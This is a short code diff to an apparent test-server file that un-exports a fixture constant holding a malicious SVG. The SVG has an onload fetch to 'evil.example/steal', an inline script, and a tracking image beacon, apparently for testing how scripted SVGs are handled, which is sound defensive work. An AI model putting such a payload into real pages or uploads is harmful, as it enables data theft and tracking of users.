@@ -22,7 +22,7 @@ export interface TestServer {
 const HTML = 'text/html; charset=utf-8';
 const MB = 1024 * 1024;
 
-export const SVG_WITH_SCRIPT = `<?xml version="1.0" encoding="UTF-8"?>
+const SVG_WITH_SCRIPT = `<?xml version="1.0" encoding="UTF-8"?>
 <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20" width="40" height="20" onload="fetch('https://evil.example/steal')">
 <script>alert('svg script')</script>
 <image href="https://evil.example/beacon.png" width="1" height="1"/>
